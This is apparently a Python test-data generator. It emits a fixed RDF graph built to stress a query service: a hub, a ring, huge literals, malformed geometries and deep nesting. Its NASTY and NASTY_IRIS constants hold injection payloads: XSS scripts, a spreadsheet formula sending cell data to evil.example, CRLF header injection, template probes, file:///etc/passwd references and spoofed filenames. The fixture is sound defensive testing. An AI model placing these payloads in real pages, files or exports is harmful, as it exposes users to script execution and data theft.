"""The graph that the attacks are aimed at, as N-Triples on standard output, the same every time.

It is small enough to load in a second, and its shape multiplies what a query asks for: a hub that
half of the nodes stand at, a ring, a fan-out of three (3^n walks of n steps), literals of half a
megabyte, geometries that no map can draw, and values that every format of results finds hard.
"""

import random
import sys
from collections.abc import Iterator

NODES = 6_000
LITERALS = 8
LITERAL_LENGTH = 500_000

WORDS = ("pont", "riu", "torre", "mercat", "port", "vall", "bosc", "nord", "sud", "molí", "camp")
XSD = "http://www.w3.org/2001/XMLSchema#"
LABEL = "http://www.w3.org/2000/01/rdf-schema#label"
TYPE = "http://www.w3.org/1999/02/22-rdf-syntax-ns#type"
WKT = "http://www.opengis.net/ont/geosparql#wktLiteral"
AS_WKT = "http://www.opengis.net/ont/geosparql#asWKT"

#: What XML cannot hold, what HTML would run, what a spreadsheet would run, and what ends a line.
NASTY = (
    r"\u0000\u0001\u0008\u000B\u001F\uFFFE\uFFFF",
    r"<script>alert(1)</script><img src=x onerror=alert(1)>\"'&amp;",
    r"]]><!--<![CDATA[ %zz & </literal></results>",
    r"=HYPERLINK(\"http://evil.example/?\"&A1)",
    r"a,b\r\nc\td\\e\"f\"\n",
    r"\u202Etxt.exe\u2066\u200B\u0085\u2028\u2029",
    r"{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "a" + r"\u0301" * 3000,
    r"\U0010FFFF\U0001F469\u200D\U0001F469\u200D\U0001F467",
)
NASTY_IRIS = (
    "javascript:alert(document.domain)",
    "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
    "http://ex.org/e/42'onmouseover='alert(1)",
    "http://ex.org/e/%0d%0aSet-Cookie:%20a=b",
    "http://ex.org/e/(%3Cb%3E)/../../..//evil.example/",
    "http://ex.org/" + "a" * 20_000,
    "file:///etc/passwd",
    r"http://ex.org/e/\u202Egnp.exe",
)
GEOMETRIES = (
    "POINT (NaN NaN)",
    "POINT (Infinity -Infinity)",
    "POINT (1e308 -1e308)",
    "POINT (2.1)",
    "POINT (2.1 41.4",
    "POINT EMPTY",
    "POLYGON EMPTY",
    "POLYGON ((0 0, 1 1, 1 0, 0 1, 0 0))",
    "POLYGON ((0 0, 1 1))",
    "POINT ZM (2.1 41.4 10 7)",
    "CIRCULARSTRING (0 0, 1 1, 2 0)",
    "<http://www.opengis.net/def/crs/EPSG/0/25831> POINT (430000 4581000)",
    "<file:///etc/passwd> POINT (2.1 41.4)",
    "",
    "GEOMETRYCOLLECTION (" * 2_000 + "POINT (2.1 41.4)" + ")" * 2_000,
    "MULTIPOINT (" + ", ".join(f"({n % 360 - 180} {n % 180 - 90})" for n in range(20_000)) + ")",
)


def comb(teeth: int, *, upright: bool) -> str:
    """A polygon like a comb: two of them, crosswise, meet in *teeth* squared places."""
    points = []
    for n in range(teeth):
        points += [(2 * n, 1), (2 * n, 2 * teeth), (2 * n + 1, 2 * teeth), (2 * n + 1, 1)]
    points = [(-1, 0), *reversed([*points, (2 * teeth, 0)]), (-1, 0)]
    return ", ".join(f"{x} {y}" if upright else f"{y} {x}" for x, y in points)


def triple(subject: str, predicate: str, value: str) -> str:
    """One line of N-Triples; short names stand for ours."""
    subject = subject if ":" in subject else f"http://ex.org/e/{subject}"
    predicate = predicate if ":" in predicate else f"http://ex.org/v/{predicate}"
    return f"<{subject}> <{predicate}> {value} ."


def nodes(draw: random.Random) -> Iterator[str]:
    """A ring with a fan-out, half of it at the hub."""
    for i in range(NODES):
        name = " ".join(draw.choice(WORDS) for _ in range(3))
        yield triple(str(i), TYPE, f"<http://ex.org/v/C{i % 12}>")
        yield triple(str(i), LABEL, f'"{name} {i}"@ca')
        yield triple(str(i), "next", f"<http://ex.org/e/{(i + 1) % NODES}>")
        yield triple(str(i), "n", f'"{draw.randrange(10**6)}"^^<{XSD}integer>')
        yield triple(str(i), "day", f'"{draw.randrange(1000, 2026)}-0{i % 9 + 1}-11"^^<{XSD}date>')
        for other in {draw.randrange(NODES) for _ in range(3)}:
            yield triple(str(i), "knows", f"<http://ex.org/e/{other}>")
        if i % 2:
            yield triple(str(i), "at", "<http://ex.org/e/hub>")


def geometries(draw: random.Random) -> Iterator[str]:
    """Squares that overlap, and geometries that are none."""
    for i in range(400):
        x, y = draw.uniform(2.0, 2.3), draw.uniform(41.3, 41.5)
        ring = ", ".join(
            f"{x + a:.5f} {y + b:.5f}" for a, b in ((0, 0), (0.1, 0), (0.1, 0.1), (0, 0.1), (0, 0))
        )
        yield triple(f"square{i}", AS_WKT, f'"POLYGON (({ring}))"^^<{WKT}>')
    for i, text in enumerate(GEOMETRIES):
        yield triple(f"odd{i}", AS_WKT, f'"{text}"^^<{WKT}>')
    yield triple("comb1", "comb", f'"POLYGON (({comb(1_500, upright=True)}))"^^<{WKT}>')
    yield triple("comb2", "comb", f'"POLYGON (({comb(1_500, upright=False)}))"^^<{WKT}>')


def values(draw: random.Random) -> Iterator[str]:
    """Literals that are large, and terms that formats find hard."""
    for i in range(LITERALS):
        word = "".join(draw.choice("abcdefghij àçé<&") for _ in range(1_000))
        yield triple(f"large{i}", "text", f'"{word * (LITERAL_LENGTH // 1_000)}"')
    for i, text in enumerate(NASTY):
        yield triple(f"nasty{i}", "nasty", f'"{text}"')
        yield triple(f"nasty{i}", "nasty", f'"{text}"@x-{"junk-" * 20}end')
        yield triple(f"nasty{i}", LABEL, f'"{text}"@ca')
    for i, iri in enumerate(NASTY_IRIS):
        yield triple(f"iri{i}", "nasty", f"<{iri}>")
        yield triple(iri, LABEL, f'"iri {i}"@ca')
    yield triple("one", "one", f'"1"^^<{XSD}integer>')
    yield triple("one", "real", f'"1.0E0"^^<{XSD}double>')
    yield triple("one", "yes", f'"true"^^<{XSD}boolean>')
    term = "<http://ex.org/e/0>"
    for _ in range(40):
        term = f"<<( <http://ex.org/e/0> <http://ex.org/v/says> {term} )>>"
    yield triple("deep", "says", term)


def lines() -> Iterator[str]:
    """The whole graph."""
    draw = random.Random(20261122)  # noqa: S311 - the same graph every time is what is wanted
    yield from nodes(draw)
    yield from geometries(draw)
    yield from values(draw)


if __name__ == "__main__":
    sys.stdout.writelines(line + "\n" for line in lines())
